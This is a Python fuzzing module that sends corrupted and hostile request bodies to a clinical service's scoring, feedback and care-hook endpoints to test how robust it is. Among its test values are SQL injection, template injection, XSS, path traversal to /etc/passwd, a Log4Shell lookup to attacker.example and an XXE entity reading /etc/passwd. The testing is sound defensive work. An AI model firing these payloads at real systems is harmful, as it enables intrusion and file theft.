"""Bodies that are not what they claim to be, in requests that prove who sends them."""

import json
from collections.abc import Callable, Iterator
from typing import Any
from uuid import uuid4

from tests.hostile.request import TEXTS, HostileRequest, bearer
from tests.hostile.world import FEEDBACK_PATH, World
from tests.support.care.clinical_path import HOOK_PATH

MEBIBYTE = 1 << 20
MEDIA_TYPES = (
    "text/plain",
    "text/xml",
    "multipart/form-data; boundary=x",
    "application/x-www-form-urlencoded",
    "application/fhir+json",
    "application/json; charset=utf-16",
    "application/json;charset=" + "x" * 2000,
    "APPLICATION/JSON",
    "application/jsonx",
    "application/json, text/plain",
    "",
    ";",
    "*/*",
    TEXTS[0],
)
VALUES: tuple[Any, ...] = (
    None,
    True,
    -1,
    0,
    2**63,
    10**400,
    1e308,
    -0.0,
    float("nan"),
    float("inf"),
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud800",
    "\u202e",
    "A" * 100_000,
    "' OR 1=1; --",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "%s%s%n",
    "1970-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999999999+14:00",
    [],
    [[[[]]]],
    {},
    {"": ""},
    {"$ref": "#"},
    *TEXTS,
)
Form = Callable[[World, Any], bytes]


def _whole(content: Any) -> bytes:
    return json.dumps(content).encode("utf-8", "surrogatepass")


def _changed(world: World, content: Any) -> Any:
    """Return JSON of which one place has another value, more names or fewer."""
    places = list(_places(content))
    holder, key = world.source.choice(places)
    kind = world.source.random()
    if kind < 0.75:
        holder[key] = world.source.choice(VALUES)
    elif kind < 0.85 and isinstance(holder, dict):
        del holder[key]
    elif isinstance(holder, dict):
        holder[world.source.choice(TEXTS)] = world.source.choice(VALUES)
    else:
        holder.extend([holder[key]] * world.source.choice((1, 10, 1000)))
    return content


def _places(content: Any) -> Iterator[tuple[Any, Any]]:
    pairs = content.items() if isinstance(content, dict) else enumerate(content)
    for key, value in pairs:
        yield content, key
        if isinstance(value, dict | list):
            yield from _places(value)


def _field(world: World, content: Any) -> bytes:
    return _whole(_changed(world, content))


def _twice(world: World, content: Any) -> bytes:
    """Repeat a name, with another value."""
    name = world.source.choice(list(content))
    return _whole(content)[:-1] + b", " + _whole({name: world.source.choice(VALUES)})[1:]


def _deep(world: World, content: Any) -> bytes:
    depth = world.source.choice((50, 500, 5_000, 100_000))
    opening, closing = world.source.choice(((b"[", b"]"), (b'{"a":', b"}")))
    nested = opening * depth + b"1" + closing * world.source.choice((0, depth))
    name = world.source.choice(list(content)).encode()
    return world.source.choice((nested, b'{"' + name + b'":' + nested + b"}"))


def _number(world: World, content: Any) -> bytes:
    number = world.source.choice(
        (b"1" * 5_000, b"-" + b"9" * 100_000, b"1e999999999", b"NaN", b"-Infinity", b"0x10", b"01", b"1.", b"+1")
    )
    name: bytes = world.source.choice(list(content)).encode()
    return _whole(content)[:-1] + b', "' + name + b'": ' + number + b"}"


def _bytes_of_another_encoding(world: World, content: Any) -> bytes:
    text = json.dumps(content)
    broken = bytes((0xC3, 0x28)), bytes((0xED, 0xA0, 0x80)), bytes((0xFF, 0xFE)), bytes((0xF5, 0x80, 0x80, 0x80))
    encodings: tuple[bytes, ...] = (
        text.encode("utf-16"),
        text.encode("utf-32"),
        b"\xef\xbb\xbf" + text.encode(),
        text.encode().replace(b'"', world.source.choice(broken), 3),
        text.encode()[:-1] + b', "' + world.source.choice(broken) + b'": 1}',
        world.source.randbytes(world.source.choice((1, 100, 10_000))),
        b"\x1f\x8b\x08\x00" + world.source.randbytes(50),
    )
    return world.source.choice(encodings)


def _cut(world: World, content: Any) -> bytes:
    whole = _whole(content)
    return whole[: world.source.randrange(len(whole))]


def _other(world: World, _content: Any) -> bytes:
    return world.source.choice(
        (
            b"",
            b"null",
            b"[]",
            b"{}",
            b'""',
            b"0",
            b"{}" * 1000,
            b"\x00",
            b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            b"--x\r\nContent-Disposition: form-data; name=a; filename=b\r\n\r\nc\r\n--x--\r\n",
            b"a=b&c=" + world.builder.text().encode(),
        )
    )


def _large(world: World, content: Any) -> bytes:
    """Write a note of a megabyte somewhere."""
    text = (world.builder.text() + " ") * (MEBIBYTE // 8)
    name = world.source.choice(list(content))
    return _whole(content | {name: text[: world.source.choice((MEBIBYTE - 4096, MEBIBYTE, 2 * MEBIBYTE))]})


FORMS: tuple[tuple[Form, int], ...] = (
    (_field, 10),
    (_twice, 2),
    (_deep, 3),
    (_number, 3),
    (_bytes_of_another_encoding, 3),
    (_cut, 2),
    (_other, 3),
    (_large, 1),
)
"""Ways to spoil a body, and how often each."""


def planning(world: World) -> Iterator[HostileRequest]:
    """Spoil bodies for planning."""
    while True:
        target, content = world.source.choice((("/v1/scores", world.scores()), ("/v1/feedback", world.feedback())))
        yield _request(world, "planning", target, content, ())


def care(world: World) -> Iterator[HostileRequest]:
    """Spoil bodies for care, in requests with a good token."""
    while True:
        target, content = world.source.choice(((HOOK_PATH, world.hook()), (FEEDBACK_PATH, world.card_feedback())))
        yield _request(world, "care", target, content, bearer(world.path.token(target)))


def prefetches(world: World) -> Iterator[HostileRequest]:
    """Spoil resources of a prefetch: what a hospital's system sends is read by ingestion and by the features."""
    whole = json.dumps(world.path.discharge)
    while True:
        content = json.loads(whole) | {"hookInstance": str(uuid4())}
        name = world.source.choice(list(content["prefetch"]))
        for _ in range(world.source.choice((1, 3, 10))):
            _changed(world, content["prefetch"].get(name) or content["prefetch"])
        headers = bearer(world.path.token(HOOK_PATH))
        yield world.builder.request(
            "prefetch", "care", "POST", HOOK_PATH, headers=headers, body=_whole(content), admitted=True
        )


def _request(
    world: World, service: str, target: str, content: Any, headers: tuple[tuple[str | bytes, str | bytes], ...]
) -> HostileRequest:
    forms, weights = zip(*FORMS, strict=True)
    [form] = world.source.choices(forms, weights)
    if world.source.random() < 0.15:
        headers = (*headers, ("Content-Type", world.source.choice(MEDIA_TYPES)))
    if world.source.random() < 0.05:
        headers = (*headers, ("Content-Encoding", world.source.choice(("gzip", "br", "deflate", "x" * 500))))
    return world.builder.request(
        "body", service, "POST", target, headers=headers, body=form(world, content), admitted=True
    )
